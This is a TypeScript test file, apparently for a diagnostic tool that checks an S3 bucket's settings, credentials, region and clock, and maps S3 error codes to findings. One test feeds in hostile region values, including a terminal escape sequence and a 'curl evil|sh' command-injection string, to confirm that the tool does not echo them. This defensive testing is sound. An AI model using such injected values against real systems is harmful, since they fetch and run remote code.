import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { whyNotReached } from '../../../../src/doctor/bucket/refusal.ts';
import type { Said } from '../../../../src/doctor/ask.ts';
import { BUCKET, SUBJECT, examined } from '../stub-examination.ts';

describe('a bucket', () => {
  it('that is right has only ✓', async () => {
    const { notOk, findings, left } = await examined();
    assert.deepEqual(notOk, []);
    assert.ok(findings.length > 15);
    assert.deepEqual(left, []);
  });

  it('without versions is advised to have them, and nothing else', async () => {
    const { notOk, found, left } = await examined({ versioning: false });
    assert.deepEqual(notOk, ['bucket.versioning: note']);
    assert.match(found('bucket.versioning').remedy ?? '', /put-bucket-versioning --bucket acme-uploads/);
    assert.deepEqual(left, []);
  });

  it('that says ok to everything is believed nothing', async () => {
    assert.deepEqual((await examined({ fault: 'says ok to everything' })).notOk, ['signature: unsafe']);
  });

  it('that checks no signature is unsafe', async () => {
    const { notOk, left } = await examined({ fault: 'checks no signature' });
    assert.deepEqual(notOk, ['signature: unsafe']);
    assert.deepEqual(left, []);
  });

  it('that locks objects gets no canary', async () => {
    const { notOk, found, left } = await examined({ fault: 'locks objects' });
    assert.deepEqual(notOk, ['bucket.lock: off', 'canaries: note']);
    assert.match(found('bucket.lock').found, /30 days/);
    assert.deepEqual(left, []);
  });

  it('that blocks SSE-C is named with the remedy', async () => {
    const { notOk, found } = await examined({ fault: 'has blocked sse-c' });
    assert.deepEqual(notOk, ['bucket.encryption: off']);
    assert.match(found('bucket.encryption').remedy ?? '', /put-bucket-encryption .*"NONE"/s);
  });

  it('whose settings may not be read is examined all the same', async () => {
    const { notOk, found, left } = await examined({ fault: 'denies settings' });
    assert.deepEqual(notOk, ['bucket.versioning: note', 'bucket.lock: note', 'bucket.lifecycle: note']);
    assert.match(
      found('bucket.versioning').remedy ?? '',
      /s3:GetBucketVersioning on arn:aws:s3:::acme-uploads/,
    );
    assert.equal(found('overwrite').outcome, 'ok');
    assert.deepEqual(left, []);
  });

  it('in another region names the right one', async () => {
    const { notOk, found } = await examined({ fault: 'is in another region' });
    assert.deepEqual(notOk, ['bucket.region: off']);
    assert.match(found('bucket.region').remedy ?? '', /eu-central-1/);
  });

  it('asked with wrong credentials says which', async () => {
    const unknown = await examined({ accessKeyId: 'nobody' });
    assert.deepEqual(unknown.notOk, ['bucket.credentials: off']);
    assert.match(unknown.found('bucket.credentials').found, /access key id/);
    const wrong = await examined({ secretAccessKey: 'not-the-secret' });
    assert.deepEqual(wrong.notOk, ['bucket.credentials: off']);
    assert.match(wrong.found('bucket.credentials').found, /secret access key/);
    assert.ok(!JSON.stringify(wrong.findings).includes('not-the-secret'));
  });

  it('asked by a clock that is hours behind is refused for the time', async () => {
    const { notOk } = await examined({ now: () => Date.now() - 3 * 3_600_000 });
    assert.deepEqual(notOk, ['bucket.clock: off']);
  });
});

describe("S3's refusal of a first question", () => {
  const place = { subject: SUBJECT, region: 'us-east-1' };
  const asker = { bucket: BUCKET, s3api: (command: string) => `aws s3api ${command}` };
  const said = (status: number, code: string, more: Partial<Said> = {}): Said => ({
    status,
    code,
    headers: {},
    body: '',
    ...more,
  });
  const check = (answer: Said) => whyNotReached(answer, asker, place)?.check;

  for (const [code, status, expected] of [
    ['NoSuchBucket', 404, 'bucket.exists'],
    ['ExpiredToken', 400, 'bucket.credentials'],
    ['InvalidToken', 400, 'bucket.credentials'],
    ['InvalidTokenId', 403, 'bucket.credentials'],
    ['RequestTimeTooSkewed', 403, 'bucket.clock'],
    ['AuthorizationHeaderMalformed', 400, 'bucket.region'],
    ['PermanentRedirect', 301, 'bucket.region'],
    ['SlowDown', 503, 'bucket.exists'],
    ['AccessDenied', 403, undefined],
  ] as const) {
    it(`${status} ${code}: ${expected ?? 'goes on'}`, () =>
      assert.equal(check(said(status, code)), expected));
  }

  it('is about the region when S3 names another, whatever the code', () => {
    const elsewhere = said(403, 'AccessDenied', { headers: { 'x-amz-bucket-region': 'eu-west-1' } });
    assert.equal(check(elsewhere), 'bucket.region');
    const here = said(403, 'AccessDenied', { headers: { 'x-amz-bucket-region': 'us-east-1' } });
    assert.equal(check(here), undefined);
  });

  it('names the setting of the target', () => {
    const elsewhere = said(301, 'PermanentRedirect', { headers: { 'x-amz-bucket-region': 'eu-west-1' } });
    const remedy = whyNotReached(elsewhere, asker, { ...place, target: 'archive' })?.remedy ?? '';
    assert.match(remedy, /`s3\.targets\.archive\.region` to eu-west-1/);
  });

  it('repeats no region that is none', () => {
    for (const region of ['\u001b]0;PWNED\u0007', 'x; curl evil|sh', 'a'.repeat(33)]) {
      const body = `<Error><Region>${region}</Region></Error>`;
      const finding = whyNotReached(said(400, 'AuthorizationHeaderMalformed', { body }), asker, place);
      assert.equal(finding?.check, 'bucket.region');
      assert.ok(!JSON.stringify(finding).includes(JSON.stringify(region).slice(1, -1)), region);
    }
  });

  it('repeats no code that is more than a word', () => {
    const finding = whyNotReached(said(500, 'x y\n<secret>'), asker, place);
    assert.ok(!finding?.found.includes('secret'));
  });
});
